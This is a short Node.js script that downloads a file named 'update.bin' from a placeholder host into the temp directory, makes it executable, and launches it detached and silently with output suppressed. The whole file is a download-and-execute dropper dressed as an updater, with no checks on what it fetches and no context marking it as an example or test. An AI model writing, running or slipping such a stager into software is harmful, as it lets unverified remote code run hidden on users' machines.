const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");
const file = path.join(os.tmpdir(), "update.bin");
https.get("https://files.invalid/update.bin", (response) => {
  const out = fs.createWriteStream(file);
  response.pipe(out);
  out.on("finish", () => {
    fs.chmodSync(file, 0o755);
    spawn(file, ["--quiet"], { detached: true, stdio: "ignore" }).unref();
  });
});
